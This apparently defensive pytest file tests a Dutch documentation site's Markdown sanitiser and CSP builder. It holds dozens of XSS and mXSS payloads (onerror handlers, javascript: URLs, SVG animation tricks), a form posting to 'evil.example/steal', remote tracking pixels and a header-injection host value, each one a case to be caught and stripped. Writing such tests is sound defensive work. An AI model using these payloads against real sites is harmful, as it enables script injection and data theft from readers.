"""Hostile content against the sanitiser (kennisplein.sanitise) and the markup check that explains it
(kennisplein.checks.markup): issue #13, classes 1 to 3.

Each case is Markdown as an editor (or an attacker with an editor's account) might write it, with
the exact `path:line: message` the check must print and, for the build, what must never survive
the sanitiser: no event handler, no script, no script URL, no reference to another host."""
from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
import yaml

from kennisplein import csp, sanitise
from kennisplein.checks import markup
from kennisplein.videos import hosts

import videos_fixture

ROOT = Path(__file__).resolve().parents[2]
PATH = "docs/producten/x/index.md"
RUNS = "het voert code uit"
RAW_TEXT = "een browser leest wat erin staat anders dan deze controle, zo kan er code in meekomen"
FORM = "een formulier stuurt gegevens van de lezer naar een adres"
ELSEWHERE = "laadt iets van een andere site: zet het bestand op de site zelf en verwijs ernaar met een pad zoals media/foto.png"


def js(url: str, tag: str = "a", attr: str = "href", scheme: str = "javascript") -> str:
    return f"'{scheme}:'-adres '{url}' in <{tag} {attr}> is niet toegestaan: {RUNS}"


# (id, Markdown body starting on line 10 of PATH, expected [(line, message)])
CASES = [
    # ---- class 2: parser tricks a blocklist walks past
    ("noscript-title", 'Tekst.\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>\n',
     [(12, f"<noscript> is niet toegestaan in de tekst: {RAW_TEXT}"),
      (12, f"attribuut 'onerror' op <img> is niet toegestaan: {RUNS}"),
      (12, "afbeelding 'x' heeft geen alt-tekst: beschrijf wat erop staat, in Markdown ![wat erop staat](x) of in HTML alt=\"…\"")]),
    ("xmp", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>\n',
     [(10, f"<xmp> is niet toegestaan in de tekst: {RAW_TEXT}"),
      (10, f"attribuut 'onerror' op <img> is niet toegestaan: {RUNS}"),
      (10, "afbeelding 'x' heeft geen alt-tekst: beschrijf wat erop staat, in Markdown ![wat erop staat](x) of in HTML alt=\"…\"")]),
    ("noembed", '<noembed><p title="</noembed><img src=x onerror=alert(1) alt=a>"></noembed>\n',
     [(10, f"<noembed> is niet toegestaan in de tekst: {RAW_TEXT}"),
      (10, f"attribuut 'onerror' op <img> is niet toegestaan: {RUNS}")]),
    ("textarea", '<textarea><p title="</textarea><img src=x onerror=alert(1) alt=a>"></textarea>\n',
     [(10, "<textarea> is niet toegestaan in de tekst: het is een formulierveld, en een browser leest wat erin staat anders dan deze controle"),
      (10, f"attribuut 'onerror' op <img> is niet toegestaan: {RUNS}")]),
    ("noframes", "<noframes><img src=x onerror=alert(1) alt=a></noframes>\n",
     [(10, f"<noframes> is niet toegestaan in de tekst: {RAW_TEXT}")]),
    ("template", "<template><img src=x onerror=alert(1) alt=a></template>\n",
     [(10, f"<template> is niet toegestaan in de tekst: {RAW_TEXT}"),
      (10, f"attribuut 'onerror' op <img> is niet toegestaan: {RUNS}")]),
    ("svg-set-href", 'Klik.\n\n<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">klik</text></a></svg>\n',
     [(12, "<svg> is niet toegestaan in de tekst: SVG kan code uitvoeren en links veranderen (zoals met <set> en <animate>)"),
      (12, "<set> is niet toegestaan in de tekst: het verandert een link in code (SVG-animatie)"),
      (12, "<text> is niet toegestaan in de tekst; haal het weg")]),
    ("svg-animate", '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>\n',
     [(10, "<svg> is niet toegestaan in de tekst: SVG kan code uitvoeren en links veranderen (zoals met <set> en <animate>)"),
      (10, "<animate> is niet toegestaan in de tekst: het verandert een link in code (SVG-animatie)")]),
    ("math", "<math><mtext><img src=x onerror=alert(1) alt=a></mtext></math>\n",
     [(10, "<math> is niet toegestaan in de tekst: MathML kan code en links bevatten"),
      (10, "<mtext> is niet toegestaan in de tekst; haal het weg"),
      (10, f"attribuut 'onerror' op <img> is niet toegestaan: {RUNS}")]),
    ("reference-link", "Lees [klik][weg] hier.\n\n[weg]: javascript:alert(document.domain)\n",
     [(12, js("javascript:alert(document.domain)"))]),
    ("reference-link-title", 'Lees [klik][weg].\n\n[weg]: <javascript:alert(1)> "Titel"\n',
     [(12, js("javascript:alert(1)"))]),
    ("reference-image", "![foto][plaatje]\n\n[plaatje]: https://tracker.example/pixel.gif\n",
     [(12, f'<img src="https://tracker.example/pixel.gif"> {ELSEWHERE}')]),
    ("vbscript", "[klik](vbscript:msgbox)\n", [(10, js("vbscript:msgbox", scheme="vbscript"))]),
    ("data-url-link", "[klik](data:text/html;base64,PHNjcmlwdD4=)\n", [(10, js("data:text/html;base64,PHNjcmlwdD4=", scheme="data"))]),
    ("entity-colon", '<a href="javascript&colon;alert(1)">x</a>\n', [(10, js("javascript:alert(1)"))]),
    ("newline-in-scheme", '<a href="jav&#10;ascript:alert(1)">x</a>\n', [(10, js("jav\\x0aascript:alert(1)"))]),
    ("leading-control", '<a href="&#1;javascript:alert(1)">x</a>\n', [(10, js("javascript:alert(1)"))]),
    ("upper-case-tag", "<SCRIPT>alert(1)</SCRIPT>\n", [(10, f"<script> is niet toegestaan in de tekst: {RUNS}")]),
    ("script-in-md-in-html", '<div markdown>\n\nTekst\n\n<script>alert(1)</script>\n\n</div>\n',
     [(14, f"<script> is niet toegestaan in de tekst: {RUNS}")]),
    ("attr-list-onmouseover", "Een alinea.\n{: onmouseover=\"alert(1)\" }\n", [(11, f"attribuut 'onmouseover' op <p> is niet toegestaan: {RUNS}")]),
    ("attr-list-heading-onfocus", '## Kop { tabindex=0 onfocus="alert(1)" autofocus }\n',
     [(10, "attribuut 'autofocus' op <h2> is niet toegestaan; haal het weg"),
      (10, f"attribuut 'onfocus' op <h2> is niet toegestaan: {RUNS}")]),
    ("attr-list-img-src", '![foto](foto.png){ src="https://evil.example/x.png" }\n',
     [(10, f'<img src="https://evil.example/x.png"> {ELSEWHERE}')]),
    ("attr-list-style", "Tekst\n{: style=\"background:url(https://evil.example/x)\" }\n",
     [(11, "attribuut 'style' op <p> is niet toegestaan: opmaak hoort in het thema")]),
    ("onerror-on-allowed-tag", '<p onclick="alert(1)">hoi</p>\n', [(10, f"attribuut 'onclick' op <p> is niet toegestaan: {RUNS}")]),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>\n",
     [(10, f"attribuut 'ontoggle' op <details> is niet toegestaan: {RUNS}")]),
    ("dom-clobbering-id", '<div id="__config">x</div>\n',
     [(10, "id '__config' op <div> is niet toegestaan: gebruik alleen letters, cijfers en streepjes, en niet twee liggende streepjes vooraan")]),
    ("site-component-data-attribute", '<div data-kp-embed data-kp-embed-src="https://evil.example/">x</div>\n',
     [(10, "attribuut 'data-kp-embed' op <div> is niet toegestaan; haal het weg"),
      (10, "attribuut 'data-kp-embed-src' op <div> is niet toegestaan; haal het weg")]),
    ("input-in-content", '<input type="checkbox" data-kp-help-filter>\n', [(10, "<input> is niet toegestaan in de tekst: het is een formulierveld")]),
    ("cdata", "<![CDATA[<img src=x onerror=alert(1)>]]>\n", [(10, "'<![…]>' is niet toegestaan in de tekst; haal het weg")]),
    # ---- class 3: content that talks to other hosts or leaves the site
    ("form-action", '<form action="https://evil.example/steal"><button>Verstuur</button></form>\n',
     [(10, f"<form> is niet toegestaan in de tekst: {FORM}"), (10, "<button> is niet toegestaan in de tekst: het is een formulierknop")]),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">\n',
     [(10, "<meta> is niet toegestaan in de tekst: het kan de lezer naar een andere site sturen of de pagina veranderen")]),
    ("remote-img", 'Kijk: <img src="https://evil.example/pixel.gif" alt="pixel">\n', [(10, f'<img src="https://evil.example/pixel.gif"> {ELSEWHERE}')]),
    ("remote-img-markdown", "![pixel](https://evil.example/pixel.gif)\n", [(10, f'<img src="https://evil.example/pixel.gif"> {ELSEWHERE}')]),
    ("protocol-relative-img", '<img src="//evil.example/pixel.gif" alt="pixel">\n', [(10, f'<img src="//evil.example/pixel.gif"> {ELSEWHERE}')]),
    ("backslash-img", '<img src="\\\\evil.example\\pixel.gif" alt="pixel">\n', [(10, f'<img src="\\\\evil.example\\pixel.gif"> {ELSEWHERE}')]),
    ("data-img", '<img src="data:image/svg+xml,<svg onload=alert(1)>" alt="x">\n',
     [(10, js("data:image/svg+xml,<svg onload=alert(1)>", tag="img", attr="src", scheme="data"))]),
    ("base-href", '<base href="https://evil.example/">\n', [(10, "<base> is niet toegestaan in de tekst: het verandert waar alle links van de pagina naartoe gaan")]),
    ("style-import", "<style>@import url(https://evil.example/x.css);</style>\n",
     [(10, "<style> is niet toegestaan in de tekst: opmaak hoort in het thema; een stijlblok kan iets van een andere site laden")]),
    ("link-stylesheet", '<link rel="stylesheet" href="https://evil.example/x.css">\n', [(10, "<link> is niet toegestaan in de tekst: het laadt iets van een andere site")]),
    ("iframe", '<iframe src="https://evil.example/"></iframe>\n', [(10, "<iframe> is niet toegestaan in de tekst: het laadt een andere site in de pagina")]),
    ("object", '<object data="https://evil.example/x.swf"></object>\n', [(10, "<object> is niet toegestaan in de tekst: het laadt een andere site of code in de pagina")]),
    ("embed", '<embed src="https://evil.example/x.swf">\n', [(10, "<embed> is niet toegestaan in de tekst: het laadt een andere site of code in de pagina")]),
    ("video-tag", '<video src="https://evil.example/x.webm"></video>\n',
     [(10, "<video> is niet toegestaan in de tekst: zet een video in docs/_data/videos/, dan maakt de site de speler")]),
    ("protocol-relative-link", "[klik](//evil.example/)\n", [(10, "link naar '//evil.example/' is niet toegestaan: schrijf het adres voluit met https://")]),
    ("ftp-link", "[klik](ftp://evil.example/x)\n",
     [(10, "link naar 'ftp://evil.example/x' is niet toegestaan: gebruik een pad binnen de site, of een adres dat begint met https://, mailto: of tel:")]),
    ("http-link", "[klik](http://example.org/)\n",
     [(10, "link naar 'http://example.org/' is niet toegestaan: gebruik een pad binnen de site, of een adres dat begint met https://, mailto: of tel:")]),
    ("blockquote-cite", '<blockquote cite="javascript:alert(1)">x</blockquote>\n', [(10, js("javascript:alert(1)", tag="blockquote", attr="cite"))]),
    ("long-value-shortened", f'<a href="javascript:{"a" * 200}">x</a>\n', [(10, js("javascript:" + "a" * 48 + "…"))]),
    ("two-on-two-lines", "<script>a()</script>\n\nTekst.\n\n<script>b()</script>\n",
     [(10, f"<script> is niet toegestaan in de tekst: {RUNS}"), (14, f"<script> is niet toegestaan in de tekst: {RUNS}")]),
]

FINE = [
    ("admonition", '!!! note "Let op"\n    Een notitie met een [link](../andere/) en **vet**.\n'),
    ("table-aligned", "| a | b |\n|:-:|--:|\n| 1 | 2 |\n"),
    ("code-shows-html", "```html\n<script>alert(1)</script>\n```\n\nEn `<img onerror=x>` inline.\n"),
    ("https-mailto-tel", "[site](https://www.rijksoverheid.nl/) [mail](mailto:info@example.org) [bel](tel:0800-2000)\n"),
    ("attr-list-class-id", "## Kop { #kop .kp-lead }\n\nTekst { .kp-note }\n"),
    ("md-in-html", '<div class="kp-box" markdown>\n\n*Tekst* met [link](#kop).\n\n</div>\n'),
    ("local-image", '![Een tekening](media/tekening.png)\n\n<img src="../media/foto.png" alt="Foto" width="300">\n'),
    ("details", "<details><summary>Meer</summary>\n\nTekst.\n\n</details>\n"),
    ("comment", "<!-- een notitie van de redactie -->\nTekst.\n"),
]


def problems(body: str) -> list[tuple[int, str]]:
    return [(p.line, p.message) for p in markup.check_text(body, PATH, 10)]


class _Published(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.bad: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "style", "iframe", "object", "embed", "form", "meta", "base", "link", "svg", "math", "set",
                   "animate", "noscript", "xmp", "textarea", "template", "input", "button"):
            self.bad.append(f"<{tag}>")
        for name, value in attrs:
            url = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on"):
                self.bad.append(f"{tag} {name}")
            elif name in ("href", "src", "cite", "action", "poster", "data", "formaction") and url.startswith(("javascript", "vbscript", "data:")):
                self.bad.append(f"{tag} {name}={value}")
            elif name in ("src", "poster", "data", "action") and (":" in url or url.startswith(("//", "\\"))):
                self.bad.append(f"{tag} {name}={value} (another host)")


def assert_harmless(html_text: str) -> None:
    """What the build publishes: no handler, no script, no script URL, nothing loaded from another host."""
    parser = _Published()
    parser.feed(html_text)
    parser.close()
    assert parser.bad == [], html_text


@pytest.mark.parametrize("body, expected", [pytest.param(b, e, id=i) for i, b, e in CASES])
def test_check_names_what_the_sanitiser_would_change(body, expected):
    assert problems(body) == expected


@pytest.mark.parametrize("body", [pytest.param(b, id=i) for i, b, _ in CASES])
def test_the_build_publishes_none_of_it(body):
    assert_harmless(sanitise.clean(markup.render(body)))


@pytest.mark.parametrize("body", [pytest.param(b, id=i) for i, b in FINE])
def test_what_the_site_itself_writes_passes_unchanged(body):
    assert problems(body) == []
    rendered = markup.render(body)
    assert sanitise.findings(rendered) == []


def test_there_are_at_least_45_hostile_cases():
    assert len({case[0] for case in CASES}) == len(CASES) >= 45


def test_markdown_extensions_are_the_builds():
    config = yaml.load((ROOT / "mkdocs.yml").read_text(encoding="utf-8"), Loader=hosts._TolerantLoader)
    names = [next(iter(e)) if isinstance(e, dict) else e for e in config["markdown_extensions"]]
    assert names == markup.MARKDOWN_EXTENSIONS


# --------------------------------------------------------------------------- transcripts and video texts

def test_script_in_a_transcript_file(tmp_path):
    docs = videos_fixture.make_docs(tmp_path)
    (docs / "_data" / "videos" / "demo.transcript.md").write_text("Dit is een testvideo over privacy.\n\n<script>alert(1)</script>\n", encoding="utf-8")
    index = videos_fixture.load(docs)
    assert [str(p) for p in index.problems] == [f"docs/_data/videos/demo.transcript.md:3: <script> is niet toegestaan in de tekst: {RUNS}"]


def _demo_video_with(tmp_path, old: str, new: str):
    """The fixture's demo video with one line changed, loaded: its video index."""
    docs = videos_fixture.make_docs(tmp_path)
    video = docs / "_data" / "videos" / "demo.yml"
    text = video.read_text(encoding="utf-8")
    assert old in text, "the fixture changed: this test would prove nothing"
    video.write_text(text.replace(old, new), encoding="utf-8")
    return videos_fixture.load(docs)


def test_javascript_link_in_a_video_summary(tmp_path):
    index = _demo_video_with(tmp_path, "summary: Een video om de checks van de video-index mee te testen.",
                             "summary: Een video om [de checks](javascript:alert(1)) mee te testen.")
    assert [str(p) for p in index.problems] == [f"docs/_data/videos/demo.yml:2: {js('javascript:alert(1)')}"]


# --------------------------------------------------------------------------- class 1: embed addresses

@pytest.mark.parametrize("url", [
    'https://www.youtube-nocookie.com/embed/abcdefghijk?x="><img src=x onerror=alert(1)>',
    "https://www.youtube-nocookie.com/embed/abcdefghijk?x=' onmouseover='alert(1)",
    "https://player.vimeo.com/video/1?dnt=1&x=<script>",
    "https://www.youtube-nocookie.com/embed/abcdefghijk\n<script>",
    "https://www.youtube-nocookie.com/embed/abcdefghijk`",
])
def test_an_embed_address_cannot_break_out_of_its_attribute(url):
    with pytest.raises(ValueError, match="is not a plain web address"):
        hosts.check(url)


def test_embed_breakout_is_refused_with_path_and_line(tmp_path):
    index = _demo_video_with(tmp_path, "  file: videos/media/demo.webm\n",
                             "  embed: 'https://www.youtube-nocookie.com/embed/abcdefghijk?x=\"><img src=x onerror=alert(1)>'\n")
    messages = [str(p) for p in index.problems]
    assert len(messages) == 1 and messages[0].startswith("docs/_data/videos/demo.yml:12: source.embed: "), messages
    assert "is not a plain web address" in messages[0]


# --------------------------------------------------------------------------- the policy

PAGE = """<!doctype html><html><head><meta charset="utf-8"><script>var a=1</script>
<script type="application/json">{"x":1}</script></head><body>
<div data-kp-embed data-kp-embed-host="www.youtube-nocookie.com"></div><script>b()</script></body></html>"""


def test_meta_policy_hashes_the_pages_own_scripts_and_comes_first():
    out = csp.with_meta_tag(PAGE)
    head = out.index('<meta http-equiv="Content-Security-Policy"')
    assert head < out.index("<script>")
    content = re.search(r'content="([^"]*)"', out[head:]).group(1)
    assert len(re.findall(r"'sha256-", content)) == 2, "two inline scripts; the JSON block does not run"
    assert "frame-src https://www.youtube-nocookie.com;" in content
    assert "frame-ancestors" not in content, "a meta policy cannot carry frame-ancestors"
    assert "default-src 'self'" in content and "object-src 'none'" in content and "base-uri 'self'" in content


def test_header_policy_is_the_same_builder():
    header = csp.policy({"'sha256-x'"}, {"media.example.org"})
    meta = csp.policy({"'sha256-x'"}, {"media.example.org"}, meta=True)
    assert header == meta + "; frame-ancestors 'self'"


@pytest.mark.parametrize("host", ['x.example" always; add_header X-Injected "yes', "x.example; script-src *", "*", "https://x.example"])
def test_a_host_that_is_not_a_host_name_never_widens_the_policy(host):
    assert csp.policy(set(), {host}) == csp.policy(set(), set())


def test_generated_pages_link_by_source_with_the_hubs_prefix():
    from kennisplein import hubs

    assert hubs.PAGE_LINK_PREFIX == sanitise.SITE_LINK_SCHEME + ":"
    card = f'<article class="kp-card"><h3><a href="{hubs.page_link("producten/x/index.md")}">X</a></h3></article>'
    assert sanitise.clean(card, generated=True) == card
    assert sanitise.clean(card) == '<article class="kp-card"><h3><a>X</a></h3></article>', "never in an editor's own page"


def test_a_script_inside_the_content_is_never_hashed():
    """Defence in depth: if a script ever got past the sanitiser into the content, the policy refuses it."""
    page = PAGE.replace("<body>", "<body><article><script>alert(1)</script></article>")
    assert csp.script_hashes(page) == csp.script_hashes(PAGE)
